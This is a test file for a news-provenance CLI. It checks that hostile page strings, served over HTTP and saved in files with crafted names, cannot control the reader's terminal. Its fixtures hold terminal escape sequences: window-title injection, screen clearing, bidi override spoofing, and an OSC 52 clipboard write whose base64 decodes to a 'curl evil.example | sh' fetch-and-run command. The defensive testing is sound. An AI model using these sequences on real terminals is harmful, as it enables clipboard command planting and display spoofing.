/**
 * Issue 16: a page cannot drive the reader's terminal through the command
 * line. Its strings (headline, author, site name, credit, copyright) carried
 * ESC ] 0 ; … BEL (window title), ESC [ 2 J (clear screen), OSC 52 (write the
 * clipboard), U+009B (a one-byte CSI) and U+202E (right-to-left override) to
 * the terminal as they were. The CLI runs here end to end (main(), with its
 * output captured) on a hostile page, saved to a file and served over HTTP.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../cli/main';
import { jsonText, oneLine, terminalText } from '../../cli/terminal';

const ESC = '\u001b';
const BEL = '\u0007';
const TITLE = `${ESC}]0;pwned${BEL}`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`;
const CSI8 = '\u009b31m';
const RLO = '\u202e';

/** Every character a terminal acts on or that reorders text: C0 (but \n), DEL, C1, bidi controls and marks. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

/** A republished story whose every string carries terminal controls; the credit links `original`. */
function hostileCopy(original: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Harbour plan approved ${TITLE}</title>
<meta property="og:type" content="article">
<meta property="og:site_name" content="Harbour Digest${CLIPBOARD}${RLO}">
<meta name="author" content="Jane${CSI8} Doe">
</head><body><main><article>
<h1>Harbour plan ${CLEAR}approved${TITLE} ${RLO}fdp.exe</h1>
<p>${'The council met on Tuesday evening and voted on the plan after a long debate about costs. '.repeat(3)}</p>
<p>${'Residents who spoke at the meeting asked for more time to read the proposal. '.repeat(3)}</p>
<p>This article was originally published by <a href="${original}">Harbour Times${CLEAR}
SYNDICATED (confidence 100 %)</a>.</p>
<p>© 2024 Harbour${TITLE} Times${RLO}</p>
</article></main></body></html>`;
}

/** The original, just as hostile: its own headline and site name drive the verify report. */
const hostileOriginal = `<!DOCTYPE html><html><head><meta charset="utf-8">
<title>Harbour plan ${CLEAR}approved</title>
<meta property="og:type" content="article">
<meta property="og:site_name" content="Harbour Times${TITLE}${CSI8}${RLO}">
<meta property="article:published_time" content="2024-03-04T09:30:00Z">
</head><body><main><article><h1>Harbour plan ${CLEAR}approved${CSI8}</h1>
<p>${'The council met on Tuesday evening and voted on the plan after a long debate about costs. '.repeat(3)}</p>
<p>${'Residents who spoke at the meeting asked for more time to read the proposal. '.repeat(3)}</p>
</article></main></body></html>`;

async function run(argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (text) => out.push(text), err: (text) => err.push(text) });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

const unsafeIn = (text: string) => [...text].filter((c) => UNSAFE.test(c)).map((c) => `U+${c.codePointAt(0)!.toString(16).padStart(4, '0')}`);

let dir = '';
let file = '';
let server: Server;
let base = '';

beforeAll(async () => {
  server = createServer((request, response) => {
    const html = request.url === '/original' ? hostileOriginal : hostileCopy(`${base.replace('127.0.0.1', 'localhost')}/original`);
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  dir = await mkdtemp(join(tmpdir(), 'provenance-cli-'));
  file = join(dir, `story${TITLE}${RLO}.html`);
  await writeFile(file, hostileCopy('https://www.harbourtimes.example/2024/03/04/harbour-plan/'));
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await rm(dir, { recursive: true, force: true });
});

describe('the CLI prints no control or bidi character from a page', () => {
  it('inspect, text report: the page strings are there, their controls are not', async () => {
    const { code, out, err } = await run(['inspect', file, '--url', 'https://www.harbourdigest.example/harbour-plan/']);
    expect(code).toBe(0);
    expect(unsafeIn(out)).toEqual([]);
    expect(unsafeIn(err)).toEqual([]);
    expect(out).toContain('SYNDICATED (confidence');
    expect(out).toContain('headline   Harbour plan approved ]0;pwned');
    expect(out).toContain('site       Harbour Digest]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\n');
    expect(out).toContain('Jane31m Doe');
    // The page's own line break does not start a line of the report.
    expect(out.split('\n').filter((line) => line.startsWith('SYNDICATED'))).toHaveLength(1);
  });

  it('inspect --json: the same strings, escaped; parsing gives them back exactly', async () => {
    const { code, out } = await run(['inspect', file, '--url', 'https://www.harbourdigest.example/harbour-plan/', '--json']);
    expect(code).toBe(0);
    expect(unsafeIn(out.replace(/\n/g, ''))).toEqual([]);
    const record = JSON.parse(out) as { page: { siteName: string; author: string }; file: string };
    // The record is the extension's (core/detect.ts analyse): a bidi override is already gone from it, the rest is exact.
    expect(record.page.siteName).toBe(`Harbour Digest${CLIPBOARD}`);
    expect(record.page.author).toBe(`Jane${CSI8} Doe`);
    expect(JSON.stringify(record.page)).not.toContain(RLO);
    // The file's own name, the reader's, is kept exact: its U+202E is escaped.
    expect(record.file).toBe(file);
    expect(out).toContain('\\u202e');
    expect(out).toContain('\\u009b');
    expect(out).toContain('\\u001b');
  });

  it('inspect --batch: one JSON line per page, escaped too', async () => {
    const list = join(dir, 'list.jsonl');
    await writeFile(
      list,
      `${JSON.stringify({ file, url: 'https://www.harbourdigest.example/harbour-plan/' })}\n${JSON.stringify({ file: join(dir, `missing${TITLE}.html`) })}\n`,
    );
    const { code, out } = await run(['inspect', '--batch', list]);
    expect(code).toBe(1);
    expect(out.split('\n')).toHaveLength(2);
    expect(unsafeIn(out.replace(/\n/g, ''))).toEqual([]);
    expect((JSON.parse(out.split('\n')[0]!) as { page: { siteName: string } }).page.siteName).toBe(`Harbour Digest${CLIPBOARD}`);
    expect((JSON.parse(out.split('\n')[1]!) as { error: { message: string } }).error.message).toContain(`missing${TITLE}.html: no such file`);
  });

  it('verify over HTTP, text report: the chain, the original and the comparison print clean', async () => {
    // The test server is on this machine: the CLI fetches from a private network only when told to.
    const { code, out, err } = await run(['verify', `${base}/copy`, '--allow-private']);
    expect(unsafeIn(out)).toEqual([]);
    expect(unsafeIn(err)).toEqual([]);
    expect(code).toBe(0);
    expect(out).toContain('ORIGINAL FOUND and compared');
    expect(out).toMatch(/headline {3}/);
  });

  it('verify --json escapes what JSON.stringify leaves raw', async () => {
    const { out } = await run(['verify', `${base}/copy`, '--json', '--allow-private']);
    expect(unsafeIn(out.replace(/\n/g, ''))).toEqual([]);
    const verification = JSON.parse(out) as { outcome: string; original: { headline: string }; hops: { publisher: string }[] };
    expect(verification.outcome).toBe('verified');
    expect(verification.original.headline).toContain(`${CLEAR}approved`);
    expect(verification.hops[0]!.publisher).toContain(`${TITLE}${CSI8}`);
  });

  it('error messages: a file name with controls is printed clean', async () => {
    const { code, err } = await run(['inspect', join(dir, `nothing${CLEAR}${RLO}.html`)]);
    expect(code).toBe(3);
    expect(unsafeIn(err)).toEqual([]);
    expect(err).toContain('no such file');
  });
});

describe('terminalText, oneLine and jsonText', () => {
  it('keep newlines and text, drop controls and bidi characters', () => {
    expect(terminalText(`a\nb${TITLE}c\td${RLO}e\u2066f\u200fg\u0085h\u007f`)).toBe('a\nb]0;pwnedc defgh');
    expect(oneLine('a\r\nb\u2028c')).toBe('a b c');
  });

  it('jsonText is JSON.stringify for a parser, with C1, DEL and bidi escaped', () => {
    const value = { s: `x${CSI8}\u007f${RLO}\u2028${ESC}y` };
    const text = jsonText(value, 2);
    expect(JSON.parse(text)).toEqual(value);
    expect(unsafeIn(text.replace(/\n/g, ''))).toEqual([]);
    // JSON.stringify alone escapes the C0 controls but leaves C1 and bidi raw.
    expect(unsafeIn(JSON.stringify(value))).toEqual(['U+009b', 'U+007f', 'U+202e', 'U+2028']);
  });
});
